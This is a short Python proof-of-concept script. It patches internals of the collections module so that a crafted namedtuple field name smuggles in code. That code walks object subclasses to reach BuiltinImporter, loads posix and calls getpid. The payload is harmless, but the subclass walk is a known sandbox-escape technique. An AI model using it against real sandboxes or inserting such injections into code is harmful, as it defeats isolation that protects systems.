# collections builds namedtuple from text; its globals are rebound so that names are not checked.
import collections
class Text(str):
    def isidentifier(self):
        return True
    def startswith(self, *rest):
        return False
collections.type = lambda x: str
collections.map = lambda f, xs: list(xs)
walk = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
try:
    collections.namedtuple("T", [Text("a: 0, {}[" + walk + ".load_module('posix').getpid()] #")])
except KeyError as error:
    print("REACHED eval", error.args[0])
